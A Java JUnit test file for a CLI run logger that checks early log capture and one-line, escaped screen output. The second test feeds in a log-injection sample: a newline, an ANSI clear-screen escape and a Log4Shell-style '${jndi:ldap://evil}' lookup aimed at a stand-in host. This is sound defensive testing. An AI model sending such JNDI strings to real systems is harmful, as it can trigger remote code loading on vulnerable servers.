package dev.thresher.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;

class RunLogTest {
  @TempDir Path run;

  private final ByteArrayOutputStream shown = new ByteArrayOutputStream();
  private final Screen screen =
      new Screen(new PrintStream(shown, true, StandardCharsets.UTF_8), Terminal.NONE);

  @Test
  void keepsWhatWasLoggedBeforeTheRunHadADirectory() throws Exception {
    Files.createDirectory(run.resolve("logs"));
    try (var log = RunLog.open(screen, false)) {
      LoggerFactory.getLogger("early").info("before");
      log.writeTo(run);
      LoggerFactory.getLogger("late").warn("after", new IllegalStateException("cause"));
      LoggerFactory.getLogger("late").debug("never");
    }
    assertThat(run.resolve("logs/coordinator.log"))
        .content()
        .contains("early - before", "late - after", "IllegalStateException: cause", "  \\tat ")
        .doesNotContain("never");
    assertThat(shown.size()).isZero();
  }

  @Test
  void showsTheLogWhenAskedAndOneLinePerMessage() {
    try (var _ = RunLog.open(screen, true)) {
      LoggerFactory.getLogger("x").info("{}", "two\nlines \u001b[2J ${jndi:ldap://evil}");
    }
    assertThat(shown.toString(StandardCharsets.UTF_8).lines())
        .singleElement()
        .asString()
        .endsWith("x - two\\nlines \\u001b[2J ${jndi:ldap://evil}");
  }
}
